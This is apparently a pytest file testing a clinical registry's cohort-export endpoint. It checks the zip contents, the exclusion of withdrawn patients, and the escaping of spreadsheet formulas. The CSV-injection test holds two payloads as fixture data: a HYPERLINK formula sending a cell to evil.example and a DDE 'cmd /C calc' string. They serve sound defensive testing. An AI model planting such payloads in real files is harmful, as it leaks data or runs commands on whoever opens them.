"""``GET /api/export/cohort``: the tidy cohort of the user's sites as a zip of CSVs that
``spinemet analyze`` reads, withdrawn patients left out unless asked, and no cell that a
spreadsheet would run as a formula (OWASP "CSV injection")."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pandas as pd

from spinemet.cohort import read_cohort
from tests.registry.conftest import PATIENT


def _unpack(response: Any, folder: Path) -> Path:
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "application/zip"
    assert 'filename="cohort.zip"' in response["Content-Disposition"]
    with zipfile.ZipFile(io.BytesIO(response.getvalue())) as archive:
        archive.extractall(folder)
    return folder


def test_the_export_is_a_cohort_that_analyze_reads(
    api_as: Any, patient_a: dict[str, Any], tmp_path: Path
) -> None:
    api = api_as("investigator_a")
    path = f"/api/patients/{patient_a['id']}"
    assert api.post(f"{path}/lesions", {"level": "T12"}).status_code == 201
    made = api.post(
        f"{path}/assessments", {"visit": "preop", "instrument": "vas", "items": {"vas": 7}}
    )
    assert made.status_code == 201, made.content
    folder = _unpack(api.get("/api/export/cohort"), tmp_path / "cohort")
    assert sorted(p.name for p in folder.iterdir()) == [
        "assessments.csv",
        "complications.csv",
        "lesions.csv",
        "patients.csv",
        "procedures.csv",
        "provenance.json",
        "schedule.json",
    ]
    cohort = read_cohort(folder)
    assert cohort.patients["patient_id"].tolist() == ["A-001"]
    assert cohort.lesions["level"].tolist() == ["T12"]
    assert cohort.assessments["total"].tolist() == [7]


def test_withdrawn_patients_are_left_out_unless_asked(
    api_as: Any, patient_a: dict[str, Any], tmp_path: Path
) -> None:
    api = api_as("investigator_a")
    second = api.post("/api/patients", {**PATIENT, "study_id": "A-002"})
    assert second.status_code == 201
    withdrawn = api.post(f"/api/patients/{second.json()['id']}/withdraw", {"reason": "consent"})
    assert withdrawn.status_code == 200, withdrawn.content
    left_out = read_cohort(_unpack(api.get("/api/export/cohort"), tmp_path / "a"))
    assert left_out.patients["patient_id"].tolist() == ["A-001"]
    everyone = read_cohort(
        _unpack(api.get("/api/export/cohort?include_withdrawn=true"), tmp_path / "b")
    )
    assert sorted(everyone.patients["patient_id"]) == ["A-001", "A-002"]


def test_no_exported_cell_is_a_spreadsheet_formula(api_as: Any, tmp_path: Path) -> None:
    api = api_as("investigator_a")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    created = api.post("/api/patients", {**PATIENT, "study_id": formula})
    assert created.status_code == 201, created.content
    made = api.post(
        f"/api/patients/{created.json()['id']}/complications",
        {"date": "2026-06-02", "type": "other", "detail": "@SUM(1+1)*cmd|' /C calc'!A0"},
    )
    assert made.status_code == 201, made.content
    folder = _unpack(api.get("/api/export/cohort"), tmp_path / "cohort")
    for table in folder.glob("*.csv"):
        cells = pd.read_csv(table, dtype=str, keep_default_na=False).to_numpy().ravel()
        risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert risky == [], (table.name, risky)
    raw = (folder / "patients.csv").read_text()
    assert "'=HYPERLINK(" in raw
    # spinemet's own reader takes the mark off again: the data are unchanged
    back = read_cohort(folder)
    assert back.patients["patient_id"].tolist() == [formula]
    assert back.complications["detail"].tolist() == ["@SUM(1+1)*cmd|' /C calc'!A0"]


def test_the_export_answers_bad_parameters_with_422(api_as: Any) -> None:
    response = api_as("datamanager").get("/api/export/cohort?include_withdrawn=perhaps")
    assert response.status_code == 422
    assert response.json()["detail"][0]["field"] == "include_withdrawn"
